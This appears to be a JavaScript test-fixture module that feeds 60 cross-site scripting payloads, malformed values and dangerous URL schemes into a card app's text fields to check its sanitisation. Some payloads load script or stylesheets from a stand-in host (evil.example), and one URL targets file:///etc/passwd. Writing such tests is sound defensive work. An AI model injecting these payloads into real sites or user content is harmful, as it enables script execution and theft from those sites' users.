// Texts that run code where a page takes text for markup: 60 of the usual ones. Each would set
// window.pwned or open a dialog.
export const XSS = [
  `<script>window.pwned=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>window.pwned=1</scr</script>ipt>`, `</script><script>window.pwned=1</script>`, `</title><script>window.pwned=1</script>`,
  `</textarea><script>window.pwned=1</script>`, `</style><script>window.pwned=1</script>`, `--><script>window.pwned=1</script>`, `]]><script>window.pwned=1</script>`, `<script/x>window.pwned=1</script>`,
  `<img src=x onerror=window.pwned=1>`, `<img src=x onerror="alert(1)">`, `<IMG """><SCRIPT>window.pwned=1</SCRIPT>">`, `<img src="x:x" onerror=window.pwned=1//`, `<img/src=x/onerror=window.pwned=1>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=1>`, `<image src=x onerror=window.pwned=1>`, `<svg onload=window.pwned=1>`, `<svg/onload=window.pwned=1>`, `<svg><script>window.pwned=1</script></svg>`,
  `<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:window.pwned=1"><text y=1>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x><script>window.pwned=1</script></svg>#x"></svg>`, `<math><mtext><img src=x onerror=window.pwned=1></mtext></math>`,
  `<math href="javascript:window.pwned=1">x</math>`, `<body onload=window.pwned=1>`, `<iframe src="javascript:parent.pwned=1"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<object data="javascript:window.pwned=1"></object>`,
  `<embed src="javascript:window.pwned=1">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">`,
  `<form action="javascript:window.pwned=1"><input type=submit></form>`, `<button formaction="javascript:window.pwned=1">x</button>`, `<input autofocus onfocus=window.pwned=1>`, `<select autofocus onfocus=window.pwned=1>`, `<video><source onerror=window.pwned=1></video>`,
  `<audio src=x onerror=window.pwned=1>`, `<details open ontoggle=window.pwned=1>`, `<marquee onstart=window.pwned=1>x</marquee>`, `<a href="javascript:window.pwned=1">x</a>`, `<a href="jav&#x09;ascript:window.pwned=1">x</a>`,
  `<a href=data:text/html,<script>opener.pwned=1</script> target=_blank>x</a>`, `<div style="background:url(javascript:window.pwned=1)">x</div>`, `<div onpointerrawupdate=window.pwned=1 style=position:fixed;inset:0>x</div>`, `<template><img src=x onerror=window.pwned=1></template>`, `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
  `" onmouseover="window.pwned=1" x="`, `' onfocus='window.pwned=1' autofocus='`, "` onerror=`window.pwned=1`", `javascript:window.pwned=1`, `{{constructor.constructor('window.pwned=1')()}}`,
  "${window.pwned=1}", `\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e`, `&lt;script&gt;window.pwned=1&lt;/script&gt;`, `<\u2028script>window.pwned=1</script>`, `=HYPERLINK("javascript:window.pwned=1","x")`,
];

// Keys of a card's file whose text is the reader's own.
const TEXT = new Set(["title", "place", "summary", "question", "name", "leader", "wanted", "got", "text", "publisher", "author", "note", "speaker", "role", "outlet", "quote", "label", "words", "rater", "group"]);

// Fills every text of a card: with all strings, each field beginning with another one, or where n is
// given with one string a field. Returns the card and how many texts it has.
export function hostileCard(card, n) {
  const copy = structuredClone(card);
  let fields = 0;
  const fill = () => {
    const at = fields++;
    return n === undefined ? XSS.map((_, i) => XSS[(i + at) % XSS.length]).join(" | ") : XSS[(n + at) % XSS.length];
  };
  const walk = (x) => {
    for (const [key, value] of Object.entries(x)) {
      if (typeof value === "string") { if (TEXT.has(key)) x[key] = fill(); } else if (value && typeof value === "object") walk(value);
    }
  };
  walk(copy);
  return { card: copy, fields };
}

// Values that a file or a record may hold where another kind is due.
export const ODD = [null, 0, -1, 1e308, 0.5, true, "", "x", "../x", "a".repeat(70), [], {}, [[]], [null], { length: 3 }, "[object Object]", '{"open":1}', "{", "7", "null"];

// Every place in a value, from the top: [the object that holds it, its key, the path to it].
export function placesIn(x, path = "") {
  return Object.keys(x).flatMap((key) => {
    const at = path ? path + "." + key : key;
    return [[x, key, at], ...(x[key] && typeof x[key] === "object" ? placesIn(x[key], at) : [])];
  });
}

// Addresses that run code, open files, or lead to another site than they seem to.
export const ADDRESSES = [
  "javascript:alert(1)", "JavaScript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript://example.org/%0aalert(1)", "javascript:https://example.org/",
  "jav&#x09;ascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "VBScript:msgbox(1)",
  "file:///etc/passwd", "file://c:/windows", "blob:https://example.org/x", "filesystem:https://example.org/x", "view-source:https://example.org", "about:blank", "chrome://settings",
  "//evil.example/", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:/evil.example", "ws://evil.example/", "mailto:a@b.c?body=x", "tel:1", "intent://x#Intent;end",
  "https://example.org/\"onmouseover=alert(1)", "https://example.org/'><script>",
];
